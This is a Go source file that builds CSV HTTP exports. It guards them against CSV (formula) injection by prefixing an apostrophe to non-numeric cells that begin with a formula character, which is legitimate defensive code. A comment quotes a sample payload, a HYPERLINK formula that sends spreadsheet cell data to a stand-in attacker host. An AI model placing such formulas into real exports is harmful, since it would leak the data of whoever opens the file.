package api

import (
	"bytes"
	"encoding/csv"
	"strconv"
	"strings"

	"google.golang.org/genproto/googleapis/api/httpbody"
)

// csvContentType is the media type of the CSV exports.
const csvContentType = "text/csv; charset=utf-8"

// csvBody writes recs (the first is the header) as CSV (RFC 4180, CRLF
// line ends), every cell through spreadsheetSafe.
func csvBody(recs [][]string) (*httpbody.HttpBody, error) {
	var buf bytes.Buffer
	w := csv.NewWriter(&buf)
	w.UseCRLF = true
	for _, rec := range recs {
		for i, cell := range rec {
			rec[i] = spreadsheetSafe(cell)
		}
		if err := w.Write(rec); err != nil {
			return nil, err
		}
	}
	w.Flush()
	if err := w.Error(); err != nil {
		return nil, err
	}
	return &httpbody.HttpBody{ContentType: csvContentType, Data: buf.Bytes()}, nil
}

// formulaStarts are the first characters with which a spreadsheet
// program reads a cell as a formula (OWASP, CSV injection); the CRM's
// export (crm-csv) neutralizes the same.
const formulaStarts = "=+-@\t\r"

// spreadsheetSafe keeps a cell from running as a formula when the export
// is opened in a spreadsheet program: a text that someone typed (a
// reference, a reason, an account name) such as
// =HYPERLINK("https://evil.example/?"&A2) would otherwise run on the
// machine of whoever opens the file. Such a cell is written after an
// apostrophe, which spreadsheets read as "text" and hide. Numbers
// (-12.50, a credit balance) stay as they are.
func spreadsheetSafe(cell string) string {
	if cell == "" || !strings.ContainsRune(formulaStarts, rune(cell[0])) {
		return cell
	}
	if _, err := strconv.ParseFloat(cell, 64); err == nil {
		return cell
	}
	return "'" + cell
}
